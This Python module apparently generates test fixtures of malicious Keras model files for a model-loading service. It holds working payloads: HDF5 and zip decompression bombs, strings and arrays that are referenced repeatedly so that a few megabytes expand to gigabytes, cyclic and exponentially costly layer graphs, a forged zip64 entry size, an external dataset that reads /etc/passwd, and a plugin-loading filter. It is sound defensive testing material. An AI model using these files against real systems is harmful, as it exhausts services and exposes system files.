"""Model files that would cost who loads them far more than their bytes: each is written to a path.

Every description is small and plain but for the one thing that the function is called after. The files hold no weights
where none are needed to do harm: an unprotected service builds first and reads them later.
"""

import io
import json
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Config = dict[str, Any]
ZEROS = 10_000_000


# Descriptions as Keras 3 writes them.


def layer(name: str, kind: str, *inputs: str, module: str = "keras.layers", **config: Any) -> Config:
    """One layer, called once on the outputs of the layers called `inputs`."""
    given = [tensor(one) for one in inputs]
    return {
        "module": module,
        "class_name": kind,
        "config": {"name": name, **config},
        "registered_name": None,
        "name": name,
        "inbound_nodes": [{"args": [given if len(given) > 1 else given[0]], "kwargs": {}}] if given else [],
    }


def tensor(name: str, call: int = 0) -> Config:
    return {
        "class_name": "__keras_tensor__",
        "config": {"shape": [None, 4], "dtype": "float32", "keras_history": [name, call, 0]},
    }


def start(*shape: int) -> Config:
    return layer("start", "InputLayer", batch_shape=[None, *shape], dtype="float32")


def functional(*layers: Config, out: str, call: int = 0, name: str = "model") -> Config:
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": name,
            "layers": list(layers),
            "input_layers": [["start", 0, 0]],
            "output_layers": [[out, call, 0]],
        },
        "registered_name": "Functional",
    }


def sequential(*layers: Config) -> Config:
    return {"class_name": "Sequential", "config": {"name": "model", "layers": list(layers)}}


def plain(units: int = 2) -> Config:
    """A harmless classifier of images of 2×2."""
    return functional(
        start(2, 2, 1),
        layer("flat", "Flatten", "start"),
        layer("dense", "Dense", "flat", units=units, activation="softmax"),
        out="dense",
    )


def hdf5(path: Path, config: Any, fill: Callable[[h5py.File], object] = lambda _: None, weights: bool = True) -> None:
    """An HDF5 file as Keras writes it, with the weights of `plain` or without any; `fill` does harm to it."""
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = (config if isinstance(config, str) else json.dumps(config)).encode()
        file.attrs["keras_version"], file.attrs["backend"] = "3.15.0", "tensorflow"
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = [b"dense"] if weights else np.array([])
        if weights:
            dense = group.create_group("dense")
            dense.attrs["weight_names"] = [b"kernel", b"bias"]
            dense["kernel"], dense["bias"] = np.ones((4, 2), np.float32), np.zeros(2, np.float32)
        fill(file)


def keras_zip(path: Path, config: Any, fill: Callable[[h5py.File], object] = lambda _: None, **more: bytes) -> None:
    """A `.keras` file with the weights of `plain`; `more` are other entries, with `__` for the dot."""
    weights = io.BytesIO()
    with h5py.File(weights, "w") as file:
        file.create_group("vars")
        file["layers/dense/vars/0"], file["layers/dense/vars/1"] = np.ones((4, 2), np.float32), np.zeros(2, np.float32)
        fill(file)
    entries = {"metadata.json": b'{"keras_version": "3.15.0"}', "config.json": json.dumps(config).encode()}
    entries |= {"model.weights.h5": weights.getvalue()} | {name.replace("__", "."): one for name, one in more.items()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)


# HDF5: attributes.


def one_array_named_forty_times(path: Path) -> None:
    """130 KB → 4.7 GB: an array of 128 MB, packed, that is read once for each time that its layer names it."""

    def fill(file: h5py.File) -> None:
        dense = file["model_weights/dense"]
        dense.create_dataset("large", data=np.zeros(32 << 20, np.float32), chunks=(1 << 20,), compression="gzip")
        dense.attrs["weight_names"] = [b"large"] * 40

    hdf5(path, plain(), fill)


def one_array_named_by_many_layers(path: Path) -> None:
    """The same, and each of 40 layers names it once, by its place in the file."""

    def fill(file: h5py.File) -> None:
        weights = file["model_weights"]
        weights.create_dataset("large", data=np.zeros(32 << 20, np.float32), chunks=(1 << 20,), compression="gzip")
        weights.attrs["layer_names"] = [f"layer{place}".encode() for place in range(40)]
        for place in range(40):
            weights.create_group(f"layer{place}").attrs["weight_names"] = [b"/model_weights/large"]

    hdf5(path, plain(), fill)


def share_one_text(path: Path, place: str, name: str, times: int = 4_000) -> None:
    """Make the attribute `name` at `place` of `times` texts that are one of 2 MB in the file: 2 MB → 8 GB when read."""
    with h5py.File(path, "r+") as file:
        holder = file[place]
        if name in holder.attrs:
            del holder.attrs[name]
        holder.attrs.create(name, ["x" * (2 << 20), *map(str, range(times - 1))], dtype=h5py.string_dtype())
    content = bytearray(path.read_bytes())
    # Each element is a length, and where the text lies: the address of a heap and the number of an object in it.
    first = next(
        found.start()
        for found in re.finditer(re.escape(struct.pack("<I", 2 << 20)), content)
        if content[found.start() + 16 : found.start() + 20] == struct.pack("<I", 1)
    )
    for element in range(1, times):
        content[first + 16 * element : first + 16 * (element + 1)] = content[first : first + 16]
    path.write_bytes(content)


def card_of_one_text_many_times(path: Path) -> None:
    """2 MB → 6.8 GB in the service itself, which read the card before anything was checked."""
    hdf5(path, plain())
    share_one_text(path, "/", "model_card", 3_400)


def layer_names_of_one_text_many_times(path: Path) -> None:
    """2 MB → 6.8 GB: the names of the layers are one text of 2 MB, 3,400 times."""
    hdf5(path, plain())
    share_one_text(path, "/model_weights", "layer_names", 3_400)


def weight_names_of_one_text_many_times(path: Path) -> None:
    """The same for the names of one layer's weights."""
    hdf5(path, plain())
    share_one_text(path, "/model_weights/dense", "weight_names", 3_400)


def description_of_one_text_many_times(path: Path) -> None:
    """The same for the description of the model."""
    hdf5(path, plain())
    share_one_text(path, "/", "model_config", 3_400)


def attributes_of_another_kind(path: Path) -> None:
    """Names of layers that are numbers: an AttributeError in whoever expects texts."""
    hdf5(path, plain(), lambda file: file["model_weights"].attrs.update(layer_names=np.arange(5)))


def names_that_are_no_text(path: Path) -> None:
    """Names that are no UTF-8."""
    hdf5(path, plain(), lambda file: file["model_weights"].attrs.update(layer_names=[b"\xff\xfe"]))


# HDF5: arrays, types, links.


def array_of(dtype: Any, data: Any, **more: Any) -> Callable[[Path], None]:
    """A file with one more array, of a type that no weight has."""

    def write(path: Path) -> None:
        hdf5(path, plain(), lambda file: file.create_dataset("model_weights/dense/odd", data=data, dtype=dtype, **more))

    return write


def filtered_by(number: int) -> Callable[[Path], None]:
    """A file with an array packed by the filter of that number: HDF5 loads a library from HDF5_PLUGIN_PATH for it."""

    def write(path: Path) -> None:
        def fill(file: h5py.File) -> None:
            settings = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
            settings.set_chunk((4,))
            settings.set_filter(number, h5py.h5z.FLAG_OPTIONAL, (0,) * 20)
            space = h5py.h5s.create_simple((4,))
            h5py.h5d.create(file["model_weights/dense"].id, b"packed", h5py.h5t.IEEE_F32LE, space, dcpl=settings)

        hdf5(path, plain(), fill)

    return write


def packed_zeros(times: int) -> bytes:
    """`times` ZEROS as zlib packs them, made of one piece that is repeated."""
    packer = zlib.compressobj(1, wbits=-zlib.MAX_WBITS)
    piece, end = packer.compress(bytes(ZEROS)) + packer.flush(zlib.Z_FULL_FLUSH), packer.flush()
    checksum = (times * ZEROS % 65_521) << 16 | 1
    return b"\x78\x01" + piece * times + end + struct.pack(">I", checksum)


def chunk_larger_than_its_array(path: Path) -> None:
    """10 numbers in a piece of 2 GB, packed to 9 MB: HDF5 unpacks the whole of it to read them."""

    def fill(file: h5py.File) -> None:
        count = 500_000_000
        array = file.create_dataset(
            "model_weights/dense/odd", (10,), "f4", maxshape=(None,), chunks=(count,), compression="gzip"
        )
        array.id.write_direct_chunk((0,), packed_zeros(count * 4 // ZEROS))

    hdf5(path, plain(), fill)


def declared_and_not_there(path: Path) -> None:
    """2 KB that declare 1.6 TB of zeros (CVE-2026-0897, CVE-2026-12570)."""
    hdf5(path, plain(), lambda file: file.create_dataset("model_weights/dense/odd", (400_000_000_000,), "f4"))


def lying_elsewhere(path: Path) -> None:
    """An array whose bytes are those of another file (CVE-2026-1669)."""
    hdf5(path, plain(), lambda file: file.create_dataset("model_weights/dense/odd", (4,), "u1", external="/etc/passwd"))


def put_together_from_elsewhere(path: Path) -> None:
    """An array that is put together from those of other HDF5 files (CVE-2026-12480)."""
    layout = h5py.VirtualLayout((4,), "f4")
    layout[:] = h5py.VirtualSource("/etc/elsewhere.h5", "values", (4,))
    hdf5(path, plain(), lambda file: file.create_virtual_dataset("model_weights/dense/odd", layout))


def linked(link: Any) -> Callable[[Path], None]:
    """A file with a link in the place of a weight."""

    def write(path: Path) -> None:
        hdf5(path, plain(), lambda file: file["model_weights/dense"].update(odd=link))

    return write


def behind_a_user_block(path: Path) -> None:
    """HDF5 whose signature stands behind 512 bytes of anything: of another format, for whoever looks at those."""
    with h5py.File(path, "w", userblock_size=512) as file:
        file.attrs["model_config"] = json.dumps(plain())
    content = bytearray(path.read_bytes())
    content[:6] = b"GIF89a"
    path.write_bytes(content)


def groups_one_in_another(path: Path, count: int = 10_000) -> None:
    """10 MB → minutes: 10,000 groups, one in another, whose whole path is put together for each."""

    def fill(file: h5py.File) -> None:
        group = file["model_weights"]
        for _ in range(count):
            group = group.create_group("g")

    hdf5(path, plain(), fill)


def very_many_groups(path: Path, count: int = 30_000) -> None:
    """30,000 groups in 24 MB."""

    def fill(file: h5py.File) -> None:
        for place in range(count):
            file["model_weights"].create_group(str(place))

    hdf5(path, plain(), fill)


# Descriptions that take long to build.


def costly_initial_values(path: Path) -> None:
    """6 KB → 75 s of a processor: an orthogonal matrix of 12,100×12,100 is drawn, which the weights would replace."""
    orthogonal = {"class_name": "Orthogonal", "config": {"gain": 1.0}}
    config = sequential(
        start(110, 110, 1),
        layer("flat", "Flatten"),
        layer("square", "Dense", units=12_100, kernel_initializer=orthogonal),
        layer("dense", "Dense", units=2, activation="softmax"),
    )
    hdf5(path, config, weights=False)


def weights_that_are_not_there(path: Path) -> None:
    """6 KB → 6.4 GB: 495 million parameters are drawn before it is seen that the file has none."""
    config = sequential(
        start(10, 10, 1),
        layer("flat", "Flatten"),
        layer("wide", "Dense", units=4_900_000),
        layer("narrow", "Dense", units=1),
        layer("dense", "Dense", units=2, activation="softmax"),
    )
    hdf5(path, config, weights=False)


def very_many_layers(path: Path, count: int = 40_000) -> None:
    """3 MB → minutes, and no end for 40,000: Keras builds a Sequential anew with each layer that it adds."""
    more = (layer(f"a{place}", "Activation", activation="relu") for place in range(count))
    last = layer("dense", "Dense", units=2, activation="softmax")
    hdf5(path, sequential(start(4), *more, last), weights=False)


def long_sequential(path: Path) -> None:
    """150 KB → 200 s: 900 layers, of which each makes Keras build all before it once more."""
    very_many_layers(path, 900)


def many_layers_beside_each_other(path: Path, count: int = 5_000) -> None:
    """45 KB → minutes and 3 GB: 5,000 layers that all take the input."""
    beside = [layer(f"a{place}", "BatchNormalization", "start") for place in range(count)]
    keras_zip(path, functional(start(4), *beside, layer("sum", "Add", *(one["name"] for one in beside)), out="sum"))


def calls_of_calls(path: Path) -> None:
    """1 KB → hours: five models of each other, of which each calls the next ten times, so a layer 100,000 times."""
    inner = layer("relu", "Activation", activation="relu")
    for depth in range(5):
        name = inner["config"]["name"]
        calls = [tensor("start"), *(tensor(name, call) for call in range(9))]
        inner |= {"name": name, "inbound_nodes": [{"args": [call], "kwargs": {}} for call in calls]}
        # Among the outputs Keras counts the calls of a model from 1.
        inner = functional(start(4), inner, out=name, call=9 if depth == 0 else 10, name=f"model{depth}")
    keras_zip(path, inner)


def layers_backwards(path: Path) -> None:
    """24 KB → 250 s: 2,400 layers in backward order, and Keras walks through all of them to find each next one."""
    chain = [layer(f"a{place}", "Activation", f"a{place - 1}", activation="relu") for place in range(1, 2_400)]
    first = layer("a0", "Activation", "start", activation="relu")
    keras_zip(path, functional(start(4), *reversed(chain), first, out="a2399"))


def layers_in_a_ring(path: Path) -> None:
    """1 KB → no end in some versions of Keras: two layers that wait for each other."""
    ring = layer("a", "Activation", "b", activation="relu"), layer("b", "Activation", "a", activation="relu")
    keras_zip(path, functional(start(4), *ring, out="b"))


def one_copy_for_each_step(path: Path) -> None:
    """1 KB → minutes and GBs: a recurrent layer that is unrolled over 90,000 steps."""
    config = functional(
        start(300, 300, 1),
        layer("steps", "Reshape", "start", target_shape=[90_000, 1]),
        layer("dense", "SimpleRNN", "steps", units=2, unroll=True, use_bias=False, activation="softmax"),
        out="dense",
    )

    def fill(file: h5py.File) -> None:
        del file["layers/dense"]
        file["layers/simple_rnn/cell/vars/0"] = np.ones((1, 2), np.float32)
        file["layers/simple_rnn/cell/vars/1"] = np.zeros((2, 2), np.float32)

    keras_zip(path, config, fill)


def very_deep_json(path: Path) -> None:
    """100 KB → a RecursionError, or a crash, in whoever parses it."""
    hdf5(path, "[" * 50_000 + "]" * 50_000)


def very_much_json(path: Path, lists: int = 2_700_000) -> None:
    """8 MB → 1 GB and half a minute: millions of empty lists."""
    hdf5(path, json.dumps(plain() | {"more": []})[:-2] + ",".join(["[]"] * lists) + "]}")


# Zips.


def very_many_entries(path: Path, count: int = 60_000) -> None:
    """A zip of 60,000 entries of nothing, whose names take 100 times the memory that they take in the file."""
    with zipfile.ZipFile(path, "w") as archive:
        for place in range(count):
            archive.writestr(str(place), b"")


def swelling_entry(path: Path, size: int = 1_200_000_000) -> None:
    """1.2 MB that unpack to 1.2 GB."""
    keras_zip(path, plain(), model__weights__h5=bytes(size))


def entry_of_many_exabytes(path: Path) -> None:
    """An entry that says by zip64 that it has 2**63 - 1 bytes."""
    keras_zip(path, plain())
    content = bytearray(path.read_bytes())
    end = content.rindex(b"PK\x05\x06")
    begin = content.rindex(b"model.weights.h5", 0, end) - 46
    name_length = struct.unpack_from("<H", content, begin + 28)[0]
    struct.pack_into("<I", content, begin + 24, 0xFFFFFFFF)
    extra = struct.pack("<HHQ", 1, 8, (1 << 63) - 1)
    struct.pack_into("<H", content, begin + 30, len(extra))
    content[begin + 46 + name_length : begin + 46 + name_length] = extra
    size = struct.unpack_from("<I", content, end + len(extra) + 12)[0]
    struct.pack_into("<I", content, end + len(extra) + 12, size + len(extra))
    path.write_bytes(content)
